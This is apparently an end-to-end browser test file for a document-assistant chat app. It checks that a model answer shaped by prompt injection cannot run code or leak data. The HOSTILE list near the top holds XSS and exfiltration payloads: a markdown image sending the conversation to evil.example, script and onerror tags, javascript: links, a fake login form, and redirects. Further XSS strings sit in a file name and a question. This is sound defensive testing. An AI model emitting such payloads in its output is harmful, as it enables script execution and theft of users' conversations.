"""A model that obeys an injected document: what it writes does nothing and sends nothing."""

import pytest
from playwright.sync_api import Page, Request, expect

from e2e.browser.page.conftest import Open
from e2e.browser.page.documents import QUESTION
from e2e.browser.page.driving import answered, ask
from fake_model.server import FakeModel
from support.server import Client, Server

EVIL = "https://evil.example"
HOSTILE = (
    f"![secret]({EVIL}/x.png?conversation=all)",
    f"<script src='{EVIL}/x.js'></script><script>window.hacked = 1</script>",
    f"<img src='{EVIL}/y.png' onerror='window.hacked = 1'>",
    "[click](javascript:window.hacked=1) and <a href='javascript:window.hacked=1'>here</a>",
    f"<form action='{EVIL}/form'><input name=password><button>Log in</button></form>",
    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object><embed src='{EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}/a.css'><style>@import '{EVIL}/b.css'</style>",
    "<svg onload='window.hacked = 1'><a xlink:href='javascript:window.hacked=1'>x</a></svg>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}/'>",
    f"The board proposes a dividend of 0.85 euro a share [1]({EVIL}/mark) [1].",
)
FORBIDDEN = "script, img, iframe, object, embed, form, input, link, style, svg a, meta, base"


@pytest.mark.parametrize("text", [*HOSTILE, "\n\n".join(HOSTILE)], ids=range(len(HOSTILE) + 1))
def test_what_a_model_writes_does_nothing(
    text: str, open_page: Open, assistant: int, server: Server, model: FakeModel
) -> None:
    page = open_page("/assistants")
    asked = requests_of(page)
    model.script(text)
    page.goto(f"{server.base_url}/#/assistants/{assistant}/chat")
    ask(page, QUESTION)
    answer = answered(page)
    harmless(page, server, asked)
    expect(answer.locator(".prose").locator(FORBIDDEN)).to_have_count(0)

    page.reload()  # the stored answer, too
    answered(page)
    harmless(page, server, asked)


def test_a_document_and_its_name_are_only_words(
    open_page: Open, ann: Client, server: Server, model: FakeModel
) -> None:
    name = "<img src=x onerror=window.hacked=1>.md"
    files = [("files", (name, b"# <script>window.hacked=1</script>\n\nThe dividend is 0.85 euro."))]
    made = ann.post(
        "/api/v1/assistants/",
        data={"name": name, "company_name": name, "instructions": "x"},
        files=files,
    ).json()
    ann.read(made["id"])
    model.script("The dividend is 0.85 euro [1].")
    page = open_page(f"/assistants/{made['id']}/chat")
    asked = requests_of(page)
    ask(page, "<b onmouseover=window.hacked=1>What is the dividend?</b>")
    answered(page).locator(".mark").first.click()
    expect(page.locator(".page-text mark")).to_be_visible()
    harmless(page, server, asked)
    for path in (
        "/assistants",
        f"/assistants/{made['id']}/edit",
        f"/assistants/{made['id']}/search?q=dividend",
    ):
        page.goto(f"{server.base_url}/#{path}")
        expect(page.get_by_text("onerror").first).to_be_visible()
        harmless(page, server, asked)


def test_a_link_of_an_answer_says_where_it_leads(
    open_page: Open, assistant: int, model: FakeModel
) -> None:
    model.script("Read [the terms](https://other.example/terms) first.")
    page = open_page(f"/assistants/{assistant}/chat")
    ask(page, QUESTION)
    link = answered(page).get_by_role("link", name="the terms")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(answered(page).locator(".host")).to_have_text("other.example")


def requests_of(page: Page) -> list[Request]:
    """Every request of a page from now on."""
    found: list[Request] = []

    def note(request: Request) -> None:
        found.append(request)

    page.on("request", note)
    return found


def harmless(page: Page, server: Server, asked: list[Request]) -> None:
    """Nothing of it ran, and every request went to our own origin."""
    assert page.evaluate("() => window.hacked") is None
    own = (f"{server.base_url}/", f"blob:{server.base_url}/")
    assert [one.url for one in asked if not one.url.startswith(own)] == []
    assert asked
